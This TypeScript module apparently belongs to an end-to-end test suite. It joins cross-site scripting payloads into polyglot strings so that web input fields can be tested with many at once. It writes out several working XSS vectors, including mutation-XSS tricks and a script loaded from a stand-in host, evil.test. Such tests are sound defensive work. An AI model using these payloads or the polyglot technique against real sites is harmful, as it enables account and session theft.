import { payloads } from './payloads.table.ts';

/** Called in the page when a payload runs, with the payload's place in the table. */
export const EXECUTED = '__executed';

/** The payload at a place of the table, which says which one it was when it runs. */
export function payloadAt(place: number): string {
  return (payloads[place] ?? '').replaceAll(/pwn\(\d*\)/g, `${EXECUTED}(${place})`);
}

/** An address with a scheme of its own: nothing may stand before it, and what follows has to be no fault of its script. */
const isAddress = (payload: string) => /^\W*(?:java\s?script|vbscript|data):/i.test(payload);

/** Ends what a text before it has left open, so it stands first of all that is no address. */
const isEnd = (payload: string) => /^(?:<\/|["'`]|--|\]\])/.test(payload);

/** Leaves open what swallows all that follows, so it stands last. */
const swallowers = [
  '<!--<script>',
  '<!--<script>pwn()//--></script>',
  '<script/src=//evil.test/pwn.js>',
  '<img src=x:pwn onerror=pwn(1) //',
  '<svg><foreignObject><iframe srcdoc="<script>pwn()</script>"></foreignObject></svg>',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
];

/** Run in places where whatever stands before them would keep them from it. */
const loners: readonly (readonly string[])[] = [
  [
    '` onclick=pwn() pwn=`',
    '<template><script>pwn()</script></template>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=pwn()>">',
  ],
  ['\u2028pwn()\u2029'],
];

/** A text of several payloads, with their places in the table. */
export interface JoinedText {
  readonly text: string;
  readonly places: readonly number[];
}

function join(places: readonly number[]): JoinedText {
  const [first, ...others] = places.map(payloadAt);
  const isScript = /^\W*(?:java\s?script|vbscript):/i.test(first ?? '');
  return { text: [`${first}${isScript ? '//' : ''}`, ...others].join(' '), places };
}

/**
 * All payloads in a few texts, so that a field is tried with many at once. Each text begins with an address and ends with what
 * would swallow the rest; a test (`e2e/specs/hostile-texts/controls.spec.ts`) shows that joined ones run wherever they run alone.
 */
export const joinedTexts: readonly JoinedText[] = (() => {
  const places = payloads.map((_, place) => place);
  const isOf = (test: (payload: string) => boolean) => (place: number) => test(payloads[place] ?? '');
  const isSwallower = (payload: string) => swallowers.includes(payload);
  const firsts = places.filter(isOf(isAddress));
  const lasts = places.filter(isOf(isSwallower));
  const apart = loners.map((texts) => texts.map((text) => payloads.indexOf(text)));
  const others = [...firsts, ...lasts, ...apart.flat()];
  const rest = places.filter((place) => !others.includes(place));
  const inOrder = [...rest.filter(isOf(isEnd)), ...rest.filter(isOf((payload) => !isEnd(payload)))];
  const joined = firsts.map((first, text) => {
    const isMine = (_: number, index: number) => index % firsts.length === text;
    return join([first, ...inOrder.filter(isMine), ...lasts.filter(isMine)]);
  });
  return [...joined, ...apart.map(join)];
})();
